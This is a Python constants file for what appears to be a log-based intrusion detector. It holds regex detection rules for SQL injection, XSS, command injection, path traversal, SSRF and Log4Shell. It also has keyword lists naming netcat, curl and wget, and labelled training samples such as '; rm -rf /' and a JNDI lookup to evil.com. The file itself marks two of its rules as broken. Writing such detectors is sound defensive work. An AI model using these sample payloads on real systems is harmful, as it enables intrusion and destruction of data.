"""Patterns, word lists and levels that define the results."""

# Line formats, tried in this order after JSON.
NGINX = r'^(\S+) - (\S+) \[([^\]]+)\] "([^"]*)" (\d+) (\d+) "([^"]*)" "([^"]*)"'
APACHE = r'^(\S+) - (\S+) \[([^\]]+)\] "([^"]*)" (\d+) (\d+)'
JSON_SHAPE = r"^\s*\{.*\}\s*$"
CLOUD = r"^(\S+)\s+(\S+)\s+(\S+)\s+(\S+)\s+(\S+)\s+(\S+)"
CONTAINER = r"^(\S+)\s+(\w+)\s+(\S+)\s+(\S+)\s+(.*)"
DATABASE = r"^(\S+)\s+(\S+)\s+(\S+)\s+(\S+)\s+(.*)"

# Timestamp formats (the ISO ones with optional fraction and Z).
TIME_FORMATS = (
    "dd/MMM/yyyy:HH:mm:ss Z",
    "dd/MMM/yyyy:HH:mm:ss",
    "yyyy-MM-dd HH:mm:ss",
    "yyyy-MM-dd'T'HH:mm:ss[.SSSSSS][.SSSSS][.SSSS][.SSS][.SS][.S]['Z']",
)

# Severity levels.
LEVELS = {"critical": 4, "high": 3, "medium": 2, "low": 1}

# Category, severity, pattern of the detection rules, in their order.
RULES = (
    ("sqli", "high", r"(?i)(union\s+select|select\s+.*\s+from\s+.*\s+where|insert\s+into|delete\s+from|update\s+.*\s+set)"),
    ("sqli", "critical", r"(?i)(drop\s+table|alter\s+table|create\s+table|truncate\s+table)"),
    ("sqli", "high", r"(?i)(select\s+\*\s+from\s+information_schema|union\s+all\s+select|or\s+1\s*=\s*1|and\s+1\s*=\s*1)"),
    ("sqli", "critical", r"(?i)(waitfor\s+delay\s+\'|pg_sleep\s*\(|benchmark\s*\(|dbms_pipe\.receive_message)"),
    ("sqli", "high", r"(?i)(/\*.*\*/|--|#|;)\s*(union|select|insert|delete|update|drop|alter)"),
    ("xss", "medium", r"(?i)(<script|javascript:|onerror\s*=|onload\s*=|alert\s*\()"),
    ("xss", "high", r"(?i)(<iframe|<object|<embed|document\.|window\.)"),
    ("xss", "high", r"""(?i)(<\s*script[^>]*>.*<\s*\/\s*script\s*>|javascript\s*:|on\w+\s*=\s*["\'][^"\']*["\'])"""),
    ("xss", "medium", r"(?i)(document\.(cookie|domain)|window\.(location|name)|alert\s*\(|prompt\s*\(|confirm\s*\()"),
    ("xss", "high", r"(?i)(expression\s*\(|eval\s*\(|fromcharcode|String\.fromCharCode)"),
    ("command_injection", "high", r"(?i)(;|\||&|\$\(|`|nc\s|netcat|curl\s|wget\s)"),
    ("command_injection", "critical", r"(?i)(/bin/|/usr/|cmd\.exe|powershell)"),
    ("command_injection", "critical", r"(?i)(\|\||&&|;\s*\w+|`\s*\w+|\$\(\s*\w+|nc\s+-l|netcat\s+-e)"),
    ("command_injection", "critical", r"(?i)(/bin/(sh|bash|dash|zsh)|cmd\.exe|powershell\.exe|wscript\.exe)"),
    ("path_traversal", "high", r"(?i)(\.\.\/|\.\.\\\|/etc/passwd|/etc/shadow|c:\\\\windows\\\\system32)"),
    ("path_traversal", "medium", r"(?i)(file:\/\/|ftp:\/\/|gopher:\/\/|data:\/\/|phar:\/\/)"),
    ("ssrf", "high", r"(?i)(url\s*=|http:\/\/|https:\/\/|ftp:\/\/).*localhost|127\.0\.0\.1|192\.168\.|10\.|172\.(1[6-9]|2[0-9]|3[01])"),
    ("log4shell", "critical", r"(?i)(\$\{jndi:|\$\{ldap:|\$\{rmi:|\$\{dns:)"),
)

# Rules of the corrected set that differ from the one above: what the slipped patterns were meant to find.
RULES_CORRECTED = {
    14: ("path_traversal", "high", r"(?i)(\.\./|\.\.\\|/etc/passwd|/etc/shadow|c:\\windows\\system32)"),
    16: ("ssrf", "high", r"(?i)(url\s*=|https?://|ftp://)[^\s]*(localhost|127\.0\.0\.1|192\.168\.|\b10\.\d{1,3}\.|172\.(1[6-9]|2[0-9]|3[01])\.)"),
}

# What is masked, in this order.
MASKS = {
    "email": r"\b[A-Za-z0-9._%+-]+@[A-Za-z0-9.-]+\.[A-Z|a-z]{2,}\b",
    "phone": r"\b1[3-9]\d{9}\b",
    "id_card": r"\b\d{17}[\dXx]\b",
    "credit_card": r"\b\d{4}[- ]?\d{4}[- ]?\d{4}[- ]?\d{4}\b",
    "api_key": r"\b[A-Za-z0-9]{32,}\b",
}

# Keywords that the text features count.
SQL_WORDS = ("select", "insert", "update", "delete", "drop", "union", "or", "and")
XSS_WORDS = ("script", "javascript", "onerror", "onload", "alert", "document")
COMMAND_WORDS = ("cmd", "shell", "exec", "system", "eval", "nc", "netcat")
COUNTED_MARKS = ("/", "?", "=", "&", ";", "'", '"', " ")

# Synonyms of the levels.
LEVEL_WORDS = {
    "critical": ("critical", "crit", "fatal", "emerg"),
    "high": ("high", "error", "err", "alert"),
    "medium": ("medium", "warning", "warn"),
    "low": ("low", "info", "information", "debug"),
}

# HTTP methods; private networks.
METHODS = ("GET", "POST", "PUT", "DELETE", "HEAD", "OPTIONS", "PATCH", "TRACE", "CONNECT")
PRIVATE_NETWORKS = ("10.0.0.0/8", "172.16.0.0/12", "192.168.0.0/16", "127.0.0.0/8")

# The built-in training samples (1: malicious).
TRAINING = (
    ("SELECT * FROM users WHERE id = 1 OR 1=1", 1),
    ("UNION SELECT username, password FROM users", 1),
    ("<script>alert('xss')</script>", 1),
    ("/etc/passwd", 1),
    ("; rm -rf /", 1),
    ("${jndi:ldap://evil.com/a}", 1),
    ("GET /index.html HTTP/1.1", 0),
    ("POST /login HTTP/1.1", 0),
    ("SELECT name FROM users WHERE id = 1", 0),
    ("/home/user/document.pdf", 0),
    ("curl https://example.com", 0),
)
